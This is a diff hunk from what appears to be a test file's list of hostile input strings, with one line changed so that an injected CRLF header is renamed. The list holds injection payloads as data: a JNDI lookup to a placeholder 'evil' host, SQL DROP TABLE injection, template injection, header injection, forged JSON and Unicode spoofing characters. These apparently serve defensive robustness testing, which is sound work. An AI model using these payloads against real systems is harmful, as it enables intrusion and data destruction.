@@ -19,7 +19,7 @@ HOSTILE = [
     "null \x00 byte, backspace \x08\x08\x08, bell \x07, delete \x7f",
     "right to left \u202e gnp.exe \u2066x\u2069 zero\u200bwidth\ufeff",
     '"},{"id":"x-1","line":1,"message":"forged"}',
-    "\\u0000 \\ud800 %00 %0d%0aSet-Cookie: a=b ${jndi:ldap://evil} {{7*7}} {% raw %}",
+    "\\u0000 \\ud800 %00 %0d%0aX-Injected: a=b ${jndi:ldap://evil} {{7*7}} {% raw %}",
     "'; DROP TABLE batch; --",
     "]]>--><!--</title></textarea></script>",
     "\t\ttabs ,\tand the separator ,\t of the journal",
